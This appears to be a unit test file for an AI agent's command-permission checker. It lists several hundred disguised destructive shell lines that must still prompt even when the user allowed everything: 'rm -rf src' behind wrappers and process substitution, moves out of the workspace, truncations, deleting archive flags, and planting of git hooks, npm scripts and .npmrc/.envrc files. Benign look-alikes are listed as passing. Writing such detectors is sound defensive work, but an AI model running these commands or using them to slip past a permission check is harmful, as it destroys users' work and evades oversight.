import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { placedRequest } from '../../../test/unit-support/ruleAnswers';
import { asksAlways } from './everything';

/*
 * Lines that lose work without the name of a program that deletes, in a session in which the user allowed everything,
 * and next to each kind the lines that look like them and lose nothing.
 */

const asks = (command: string) =>
  asksAlways(placedRequest({ entry: { toolKind: 'execute', title: 'Run it', rawInput: { command } } }), 'everything');

interface Kind {
  readonly asks: string;
  readonly passes: string;
}

/** One line of each text is one command line. */
const kinds: Readonly<Record<string, Kind>> = {
  'what another command prints, run as a script': {
    asks: `
      bash <(echo rm -rf src)
      bash <(cat a.txt)
      bash -x <(echo rm -rf src)
      sh <(printf 'rm -rf src')
      zsh <(base64 -d a)
      . <(echo rm -rf src)
      source <(echo rm -rf src)
      source <(kubectl completion bash)
      . /dev/stdin <<< "rm -rf src"
      bash < <(echo rm -rf src)
      python3 <(echo 'import os')
      node <(echo 1)
      perl <(echo 1)
      ruby <(echo 1)
      deno run -A <(echo 1)
      make -f <(echo 'all: ; rm -rf src')
      awk -f <(echo 'BEGIN {}') a
      sed -f <(echo d) -i a
      git apply <(cat a.patch)
      bash --rcfile <(echo rm -rf src)
      psql -f <(echo 'drop table a')
      xargs -a a.txt rm
      crontab <(echo 1)
      cat a.sh | bash
      cat a.sh | bash -s
      cat a.py | python3 -
      cat a.js | node -
      cat a.txt | source /dev/stdin
      jq -r .x a.json | sh
      cat a.sh > >(bash)
    `,
    passes: `
      diff <(sort a) <(sort b)
      comm -12 <(sort a) <(sort b)
      cat <(echo hi)
      grep -f <(cat names) a
      wc -l < a.txt
      sort < a.txt
      paste <(cut -f1 a) <(cut -f2 b)
      cat a.txt | sort
      source ./venv/bin/activate
      . ./env.sh
      bash build.sh
      bash ./scripts/test.sh --fast
      node build.js
      npm test | tee >(grep -c pass)
    `,
  },
  'programs that run another program': {
    asks: `
      proot rm -rf src
      snap run --shell a -c "rm -rf src"
      kubectl debug a -- rm -rf src
      kubectl debug -n b pod/a --image busybox -- rm -rf src
      oc debug a -- rm -rf src
      oc exec a -- rm -rf src
      oc rsh a rm -rf src
      toolbox run rm -rf src
      toolbox run -c a rm -rf src
      proot -r / rm -rf src
      proot rm src/*
      firejail rm -rf src
      firejail --noprofile rm -rf src
      bwrap --bind / / rm -rf src
      bwrap --dev-bind / / --chdir src rm -rf .
      fakeroot -- rm -rf src
      fakechroot rm -rf src
      unshare -r rm -rf src
      nsenter -t 1 -m rm -rf src
      setpriv --no-new-privs rm -rf src
      setpriv --reuid 1 rm -rf src
      capsh -- -c "rm -rf src"
      runcon -t a rm -rf src
      chrt -i 0 rm -rf src
      uclampset -m 1 rm -rf src
      prlimit --nofile=9 rm -rf src
      softlimit -m 1 rm -rf src
      linux32 rm -rf src
      linux64 rm -rf src
      setarch -R rm -rf src
      arch -arm64 rm -rf src
      arch -x86_64 rm -rf src
      faketime "last week" rm -rf src
      gdb --args rm -rf src
      lldb -- rm -rf src
      stap -c "rm -rf src" a.stp
      dtruss rm -rf src
      ktrace rm -rf src
      xcrun rm -rf src
      command -p rm -rf src
      builtin command rm -rf src
      exec -a x rm -rf src
      exec -c rm -rf src
      env -S "rm -rf src"
      env -i rm -rf src
      env -u A rm -rf src
      env -C src rm -rf .
      nohup -- rm -rf src
      nice rm -rf src
      setsid -w rm -rf src
      stdbuf --output=L rm -rf src
      timeout -s9 5 rm -rf src
      daemonize /bin/rm -rf src
      doas -u a rm -rf src
      dbus-run-session -- rm -rf src
      xvfb-run -a rm -rf src
      expect -c "spawn rm -rf src"
      socat - EXEC:"rm -rf src"
      pkexec rm -rf src
      ssh-agent rm -rf src
      ssh-agent sh -c "rm -rf src"
      gpg-agent --daemon rm -rf src
      keychain rm -rf src
      with-contenv rm -rf src
      tini -- rm -rf src
      dumb-init rm -rf src
      catatonit rm -rf src
      su-exec a rm -rf src
      setuidgid a rm -rf src
      envdir a rm -rf src
      chpst -u a rm -rf src
      s6-setuidgid a rm -rf src
      pseudo rm -rf src
      cpulimit -l 9 rm -rf src
      cpulimit -l 9 -- rm -rf src
      systemd-run --user rm -rf src
      at now -f a.sh
      coproc rm -rf src
      parallel -a a.txt rm
      rush "rm -rf {}"
      ld.so /bin/rm -rf src
      /lib64/ld-linux-x86-64.so.2 /bin/rm -rf src
      qemu-x86_64 /bin/rm -rf src
      wine cmd /c del a
      pwsh -c "rm -r src"
      fish -c "rm -rf src"
      nu -c "rm -r src"
      tcsh -c "rm -rf src"
      xonsh -c "rm -rf src"
      elvish -c "rm -rf src"
      rbash -c "rm -rf src"
      busybox sh -c "rm -rf src"
      emacs --batch --eval '(delete-directory "src" t)'
      git -c core.editor="rm -rf src" commit
      git --config-env=core.pager=X log
      script -e -c "rm -rf src"
      dotenvx run -- rm -rf src
      op run -- rm -rf src
      doppler run -- rm -rf src
      infisical run -- rm -rf src
      devbox run rm -rf src
      flox activate -- rm -rf src
      nix-shell -p a --run "rm -rf src"
      nix shell nixpkgs#coreutils -c rm -rf src
      guix shell coreutils -- rm -rf src
      guix environment --ad-hoc coreutils -- rm -rf src
      apptainer exec a.sif rm -rf src
      singularity exec a.sif rm -rf src
      toolbox run rm -rf src
      distrobox enter a -- rm -rf src
      flatpak-spawn --host rm -rf src
      podman unshare rm -rf src
      buildah unshare rm -rf src
      lima rm -rf src
      limactl shell default rm -rf src
      colima ssh -- rm -rf src
      multipass exec a -- rm -rf src
      distrobox-host-exec rm -rf src
      ionice rm -rf src
      ionice -c 3 rm -rf src
      ionice -c3 -n 7 rm -rf src
    `,
    passes: `
      snap run a
      snap run --shell a -c "ls src"
      kubectl debug a -it --image=busybox
      kubectl debug a -- ls src
      oc exec a -- cat a.ts
      oc rsh a ls
      toolbox run ls src
      toolbox list
      flatpak run org.a
      flatpak list
      proot ls
      firejail --noprofile node build.js
      bwrap --ro-bind / / --dev /dev ls
      fakeroot make
      setpriv --no-new-privs npm test
      linux32 make
      arch -arm64 npm test
      arch
      tini -- node server.js
      dumb-init node server.js
      ssh-agent -k
      gdb --args ./a.out --version
      xcrun swift test
      dbus-run-session -- npm test
      xvfb-run -a npm test
      toolbox run ls
      apptainer exec a.sif python3 a.py
      limactl list
      docker run --entrypoint ls alpine -la
      op run -- npm test
      fish -c "ls"
      nice npm test
      ionice -c 3 npm test
      cpulimit -l 9 -- npm test
      command -v rm
      type rm
      which rm
    `,
  },
  'packages that are run by name': {
    asks: `
      deno run -A npm:rimraf src
      deno run --allow-all npm:rimraf@5 src
      deno run npm:rimraf src
      deno run -A npm:del-cli src
      deno run -A jsr:@std/cli/rimraf src
      deno x npm:rimraf src
      deno -A npm:rimraf src
      npx rimraf@5 src
      npx -y rimraf@latest src
      npx --yes rimraf src
      npx -p rimraf rimraf src
      npx --package=rimraf -c "rimraf src"
      npx --package rimraf rimraf src
      npx trash-cli src
      npx trash src
      npx rm-cli src
      npx shx rm -rf src
      npx shx mv src /tmp/x
      npx shelljs rm -rf src
      npx cpy-cli --rename a b --delete
      npx empty-trash-cli
      npx npkill -D -y
      npx rimraf-standalone src
      npx --no-install rimraf src
      npx -- rimraf src
      npx @scope/rimraf src
      npx git-clean-all
      npm exec --yes rimraf src
      npm exec rimraf@5 src
      npm x -- rimraf src
      npm --prefix a exec rimraf src
      pnpx rimraf src
      pnpm dlx rimraf@5 src
      pnpm --silent dlx rimraf src
      pnpm rimraf src
      yarn dlx rimraf src
      yarn dlx -q rimraf src
      yarn exec rimraf src
      yarn run rimraf src
      bunx rimraf src
      bunx --bun rimraf src
      bun x rimraf src
      bun run rimraf src
      bun rimraf src
      bunx shx rm -rf src
      uvx trash-cli src
      uvx --from trash-cli trash-put src
      uv tool run trash-cli src
      uv run --with trash-cli trash-put src
      pipx run trash-cli src
      pipx run --spec trash-cli trash-put src
      rye run rimraf src
      hatch run rimraf src
      go run github.com/a/rimraf src
      go run github.com/a/rimraf@latest src
      cargo run --bin rimraf src
      dotnet tool run rimraf src
      dnx rimraf src
      dart pub global run rimraf src
      gem exec rimraf src
      bundle exec rimraf src
      composer exec rimraf src
      composer global exec rimraf src
      mise x -- rimraf src
      mise exec node -- rimraf src
      corepack pnpm dlx rimraf src
      corepack yarn dlx rimraf src
      volta run rimraf src
      fnm exec -- rimraf src
      nvm exec 20 rimraf src
      npm-run-all rimraf
      node node_modules/.bin/rimraf src
      node_modules/.bin/rimraf src
      ./node_modules/.bin/rimraf src
      node node_modules/rimraf/dist/esm/bin.mjs src
      node ./node_modules/rimraf/bin.js src
      python3 -m trash src
      tsx node_modules/rimraf/bin.js src
    `,
    passes: `
      deno run -A npm:eslint src
      deno run npm:cowsay hi
      deno run main.ts
      deno test
      npx eslint@9 src
      npx -y typescript@5 --noEmit
      npx -p typescript tsc --noEmit
      npx shx ls
      npx shx echo hi
      pnpm dlx create-vite a
      yarn dlx tsc --noEmit
      bunx tsc
      uvx ruff check
      uvx --from ruff ruff check
      pipx run black src
      go run ./cmd/a
      go run github.com/a/lint@latest
      corepack pnpm install
      node node_modules/.bin/eslint src
      node_modules/.bin/tsc
      node node_modules/typescript/bin/tsc
      python3 -m pip list
      python3 -m http.server
      gem list
    `,
  },
  'moves out of the workspace': {
    asks: `
      mv src ..
      mv src ../
      mv src ../..
      mv src ../../x
      mv src ../x
      mv src ~
      mv src ~/x
      mv src ~/.cache/x
      mv src /x
      mv src /var/x
      mv src /tmp
      mv src /tmp/x
      mv src "$HOME/x"
      mv -t .. src
      mv -t /tmp src
      mv --target-directory=/tmp src
      mv --target-directory /tmp src
      mv -t../.. src
      mv -vt /tmp src
      mv src a/../../x
      mv -- src ..
      mv src/* ..
      mv src/*.ts /dev/null
      mv a.ts .git/x
      mv .git x
      mv .git .git.bak
      mv /work/project /x
      git mv -f a b
      cd src && mv a.ts ../../x
      cd .. && mv project x
      rename -f 's/a/b/' *.ts
      prename -f 's/a/b/' *.ts
      busybox mv src /tmp
      sudo mv src /tmp
      find . -name "*.ts" -exec mv {} /tmp \\;
      ls | xargs -I{} mv {} /tmp
      rsync --remove-source-files -a src/ ../x/
      ln -sfn /dev/null a.ts
    `,
    passes: `
      mv a.ts b.ts
      mv src lib
      mv src/a.ts lib/
      mv src/a.ts src/b.ts lib
      mv -n a.ts b.ts
      mv -v a.ts lib/b.ts
      mv -t lib a.ts b.ts
      mv ./a.ts ./lib/../b.ts
      cd src && mv a.ts ../b.ts
      git mv a.ts b.ts
      ln -s a.ts b.ts
      mv src/a.ts ./
    `,
  },
  'the trash': {
    asks: `
      gio trash src
      gio trash -f src
      gio trash --empty
      gio remove src
      gio move src /tmp
      gvfs-trash src
      gvfs-rm src
      kioclient5 move src trash:/
      kioclient move src trash:/
      trash src
      trash -v src
      trash-put src
      trash-empty
      trash-rm src
      rmtrash src
      rmw src
      rip src
      gomi src
      osascript -e 'tell app "Finder" to delete POSIX file "/work/project/src"'
      safe-rm -rf src
      srm -r src
      saferm src
      rm-trash src
      mv src ~/.Trash
      mv src ~/.local/share/Trash/files/
      swift-trash src
      dolphin-trash src
    `,
    passes: `
      gio list
      gio info a.ts
      gio cat a.ts
      gio mime text/plain
      trash-list
    `,
  },
  'files that archives take away': {
    asks: `
      7z a -sdel a.7z src
      7z a a.7z src -sdel
      7za a -sdel a.7z src
      7zz a -sdel a.7z src
      7zr a -sdel a.7z src
      7z d a.7z src
      rar m a.rar src
      rar mf a.rar src
      rar a -df a.rar src
      rar a -dr a.rar src
      rar d a.rar src
      zip -m a.zip src
      zip -rm a.zip src
      zip -mr a.zip src
      zip --move a.zip src
      zip -d a.zip b
      arj m a.arj src
      lha m a.lzh src
      lha d a.lzh src
      tar --remove-files -cf a.tar src
      tar -cf a.tar src --remove-files
      tar cf a.tar --remove src
      tar --recursive-unlink -xf a.tar
      tar --unlink-first -xf a.tar
      tar -xUf a.tar
      bsdtar --remove-files -cf a.tar src
      star -c f=a.tar -remove src
      pax -w -s '/x//' -f a src -X --remove
      bsdtar -xUf a.tar
      cpio -idu < a.cpio
      cpio -id < a.cpio
      cpio -i --unconditional < a.cpio
      ls | cpio -pdu ../x
      cpio -F a.cpio -iu
      ar d a.a b.o
      gzip -r src
      gzip -fr src
      gzip --recursive src
      gzip -dr src
      gzip src/*.ts
      pigz -r src
      zstd --rm a.ts
      zstd --rm -r src
      lz4 --rm a.ts
      brotli -j a.ts
      brotli --rm a.ts
      brotli -f -j a.ts
      gunzip -r src
      find . -type f -exec gzip {} +
      find . -name "*.ts" | xargs gzip
      age -e -o a src --remove
      ccrypt a.ts
      ccencrypt a.ts
      patch -p1 < a.patch
      patch -i a.patch
      git apply a.patch
      git am a.mbox
    `,
    passes: `
      gzip -k a.ts
      gzip --keep a.ts
      gzip -c a.ts > a.gz
      gzip -l a.gz
      gzip -t a.gz
      gzip --version
      cat a | gzip > a.gz
      tar cz src | gzip -9 > a.gz
      gunzip -c a.gz
      gunzip a.gz
      gunzip -k a.gz
      gzip -d a.gz
      xz -k a.ts
      xz -dc a.xz
      xz -d a.xz
      bzip2 -k a.ts
      bzip2 -dk a.bz2
      zstd a.ts
      zstd -d a.zst
      zstd -19 a.ts -o a.zst
      lz4 a.ts
      brotli a.ts
      7z a a.7z src
      7z l a.7z
      7z x a.7z
      7z t a.7z
      rar a a.rar src
      unrar l a.rar
      unrar x a.rar
      zip -r a.zip src
      zip -rq a.zip src
      zip -9 -r a.zip dist
      unzip a.zip
      unzip -l a.zip
      unzip -n a.zip
      unzip -q a.zip -d out
      tar czf a.tgz src
      tar -czf a.tgz src
      tar xf a.tgz
      tar -xzf a.tgz -C out
      tar tf a.tgz
      tar --exclude=node_modules -czf a.tgz .
      ar t a.a
      ar rcs a.a b.o
      ls | cpio -o > a.cpio
      cpio -t < a.cpio
      jar tf a.jar
      jar cf a.jar src
      git apply --check a.patch
      git apply --stat a.patch
      patch --dry-run -p1 -i a.patch
    `,
  },
  'files that are emptied or overwritten': {
    asks: `
      install /dev/null f
      install -m 644 /dev/null src/a.ts
      install -T /dev/null src/a.ts
      install -t src /dev/null
      install --mode=600 /dev/null a.ts
      ginstall /dev/null a.ts
      cp /dev/null a.ts
      cp -f /dev/null a.ts
      cp -T /dev/null a.ts
      cp -t src /dev/null
      cp /dev/zero a
      cp --target-directory=src /dev/null
      cat /dev/null | tee a.ts
      tee src/*.ts < /dev/null
      tee src/a.ts < /dev/null
      tee a.ts b.ts </dev/null
      tee a.ts <<< ""
      tee < /dev/null a.ts
      : | tee a.ts
      true | tee a.ts
      true | tee src/*.ts
      echo -n | tee a.ts
      printf '' | tee a.ts
      echo x | tee src/*.ts
      echo x | tee a b c d
      ls | tee src/*.ts
      sponge a.ts < /dev/null
      : | sponge a.ts
      truncate -s 0 a.ts
      truncate -s0 a.ts
      truncate --size=0 a.ts
      truncate -s -1 a.ts
      truncate --size 0 *.ts
      truncate -r /dev/null a.ts
      dd if=/dev/null of=a.ts
      dd of=a.ts count=0
      dd if=/dev/zero of=a.ts bs=1 count=1
      dd of=a.ts < /dev/null
      fallocate -c -o 0 -l 1 a.ts
      fallocate -p -o 0 -l 1 a.ts
      > a.ts
      >| a.ts
      : > a.ts
      : >| a.ts
      true > a.ts
      false > a.ts
      cat /dev/null > a.ts
      cat /dev/null >| a.ts
      echo -n > a.ts
      echo -n "" > a.ts
      echo -ne '' > a.ts
      printf "" > a.ts
      printf '%s' '' > a.ts
      printf '%s' "" > a.ts
      eval > a.ts
      exec > a.ts
      command > a.ts
      test > a.ts
      unset A > a.ts
      sleep 0 > a.ts
      cd . > a.ts
      export > a.ts 2> b.ts; > c.ts
      exec 3> a.ts
      exec &> a.ts
      &> a.ts
      { :; } > a.ts
      ( : ) > a.ts
      ( true ) > a.ts
      for f in a b; do : > a.ts; done
      [ -f a ] > a.ts
      test -f a > a.ts
      if true; then : ; fi > a.ts
      sed -i d a.ts
      sed -i '1,$d' a.ts
      sed -i '/./d' a.ts
      sed -ni p a.ts b.ts c.ts -e d
      sed -n -i q a.ts
      sed --in-place d a.ts
      sed --in-place=.b 'd' a.ts
      sed -ibak d a.ts
      sed -i -e d a.ts
      gsed -i d a.ts
      perl -ni -e '' a.ts
      perl -i -ne '1' a.ts
      ruby -i -ne '' a.ts
      awk -i inplace 'BEGIN {}' a.ts
      gawk -i inplace 0 a.ts
      ed -s a.ts <<< $',d\\nw'
      ex -sc '%d|x' a.ts
      ex -s a.ts -c '%d' -c wq
      vim -es -c '%d|wq' a.ts
      sort -o a.ts /dev/null
      sort /dev/null -o a.ts
      sort --output=a.ts /dev/null
      uniq /dev/null a.ts
      shred -u a.ts
      objcopy /dev/null a.ts
      curl -o a.ts file:///dev/null
      curl file:///dev/null -o a.ts
      curl --output src/a.ts file:///dev/null
      python3 -c "open('a.ts', 'w')"
      node -e "fs.writeFileSync('a.ts', '')"
      ln -sf /dev/null a.ts
      ln -f /dev/null a.ts
      ln --force -s b a.ts
      pg_dump -f /dev/null; : > a.ts
      git show HEAD:a.ts --output=b.ts
      git diff --output=a.ts
      yes | cp -i /dev/null a.ts
    `,
    passes: `
      install -m 755 a bin/a
      install -d out
      install a b
      cp a.ts b.ts
      cp -r src lib
      cp -t lib a.ts b.ts
      cp a.ts /dev/null
      echo hi | tee out.log
      npm test | tee out.log
      npm test 2>&1 | tee -a out.log
      tee out.log < a.txt
      echo hi > a.txt
      echo hi >> a.txt
      : >> a.txt
      true >> a.txt
      printf 'a' > a.txt
      printf '%s\\n' a > a.txt
      cat a > b
      cat a b > c
      cat < a > b
      head -5 a > b
      head -n 1 a > b
      ls > /dev/null
      : > /dev/null
      true > /dev/null
      npm test > /dev/null 2>&1
      npm test &> out.log
      sort a -o a
      sort -u a > b
      sed -i s/a/b/ a.ts
      sed -i 3d a.ts
      sed -i '/foo/d' a.ts
      sed -i '' s/a/b/ a.ts
      sed -i.bak -e s/a/b/ a.ts
      sed -n 5p a.ts
      sed d a.ts
      uniq a
      uniq a b
      jq . a.json > b.json
      grep -v x a > b
      curl -o a.json http://localhost:3000/x
      rsync -a a/ b/
      xxd a
      wc -c /dev/null
      cat /dev/null
      test -f a
      test -f a > /dev/null
      node build.js > out.txt
      touch a.ts
    `,
  },
  'places that make programs run': {
    asks: `
      sed -n "w.npmrc" a
      sed -n 'w .npmrc' a
      sed "w .git/hooks/pre-commit" a
      sed -n "/x/w.npmrc" a
      sed -n "s/a/b/w.npmrc" a
      sed -n 's/a/b/gw .envrc' a
      sed -e "w.envrc" a
      sed --expression="w.envrc" a
      sed -n "1w.bashrc" a
      sed -n '$w.vscode/tasks.json' a
      sed '1W.npmrc' a
      sed 1e a
      sed '1e rm -rf src' a
      sed 's/a/b/e' a
      awk '{print > ".npmrc"}' a
      awk 'BEGIN {print "x" > ".envrc"}'
      git apply a.patch
      git apply --index a.patch
      git apply < a.patch
      cat a.patch | git apply
      git apply -3 a.patch
      git am < a.mbox
      git am a.mbox
      git quiltimport
      patch < a.patch
      patch -p1 < a.patch
      patch -p1 -i a.patch
      patch a.ts a.patch
      cat a.patch | patch -p1
      patch -d .vscode < a.patch
      gpatch -p1 < a.patch
      quilt push
      stg import a.patch
      cpio -id < a.cpio
      cpio -i < a.cpio
      cpio -idm -I a.cpio
      cat a.cpio | cpio -idm
      ls | cpio -p out
      npm pkg set scripts.test="rm -rf src"
      npm pkg set scripts.postinstall=./evil
      npm pkg set 'scripts[test]=evil'
      npm pkg delete scripts.test
      npm pkg set bin.a=evil
      npm --prefix a pkg set scripts.x=y
      pnpm pkg set scripts.test=evil
      bun pm pkg set scripts.test=evil
      yarn set version ./evil.cjs
      yarn plugin import ./evil.cjs
      yarn config set yarnPath evil
      npm set-script test evil
      npm set script-shell evil
      npm init -y --scope=x --init-module=./evil
      composer config scripts.test evil
      npx husky
      npx husky init
      npx husky install
      npx husky add .husky/pre-commit evil
      npx husky@9 init
      pnpm exec husky init
      pnpm dlx husky-init
      npx husky-init
      bunx husky init
      yarn husky init
      npx lefthook install
      npx lefthook add pre-commit
      npx simple-git-hooks
      npx yorkie install
      npx git-hooks-js install
      npx ghooks
      uvx pre-commit install
      uv run pre-commit install
      poetry run pre-commit install
      pre-commit autoupdate
      pre-commit migrate-config
      overcommit --install
      bundle exec overcommit --install
      captainhook install
      vendor/bin/captainhook install
      git config core.hooksPath hooks
      git config --local core.hooksPath=hooks x
      git config set core.pager evil
      git config --file .gitmodules a.b c
      git config -f x alias.y "!evil"
      git init --template=evil
      git -c init.templateDir=evil init
      git secrets --install
      git flow init
      git maintenance start
      git bundle unbundle a; git am b
      direnv allow
      direnv edit
      mise trust
      mise use node@20
      claude mcp add x -- evil
      code --add-mcp '{}'
      systemctl --user enable x
      ssh-keygen -f ~/.ssh/id_rsa
      cp a.sh .git/hooks/pre-commit
      cat a > .vscode/tasks.json
      tee .npmrc < a
      tar xf a.tar -C .git/hooks
      unzip a.zip -d .vscode
      curl -o .envrc http://a.example
      wget -P .git/hooks http://a.example/pre-commit
      install -m 755 a .git/hooks/pre-commit
      ln -s ../a .git/hooks/pre-commit
      rsync -a a/ .husky/
      dd if=a of=.npmrc
      echo x | tee -a .npmrc
      sort a -o .npmrc
      split a .vscode/x
      jq . a > .mcp.json
      vim .npmrc
      git show HEAD:a > .envrc
    `,
    passes: `
      npm pkg get scripts
      npm pkg get version
      npm pkg set version=1.2.3
      npm pkg set description=x
      npx husky --version
      npx lint-staged
      pre-commit run --all-files
      pre-commit run
      uvx pre-commit run
      npx lefthook run pre-commit
      git config --get core.hooksPath
      git config --list
      git apply --check a.patch
      git apply --numstat a.patch
      sed -n 1,5p a
      sed s/w/x/ a
      sed 's/a/w b/' a
      sed -n '/when/p' a
      sed -e 's/write/read/' a
      sed 's/the/e/' a
      sed "s/one/two/g" a
      awk '{print}' a
      cpio --version
      claude mcp list
      direnv status
    `,
  },
};

const linesOf = (text: string) =>
  text
    .trim()
    .split('\n')
    .map((line) => line.trim().replaceAll('\\\\', '\\'));

void describe('a line that loses work in disguise', () => {
  void it('is one of hundreds of lines', () => {
    assert.ok(Object.values(kinds).flatMap((kind) => linesOf(kind.asks)).length > 400);
    assert.ok(Object.values(kinds).flatMap((kind) => linesOf(kind.passes)).length > 150);
  });

  for (const [kind, { asks: held, passes }] of Object.entries(kinds)) {
    void it(`asks about ${kind}`, () => {
      assert.deepEqual(
        linesOf(held).filter((line) => !asks(line)),
        [],
      );
    });

    void it(`passes what looks like ${kind}`, () => {
      assert.deepEqual(
        linesOf(passes).filter((line) => asks(line)),
        [],
      );
    });
  }
});
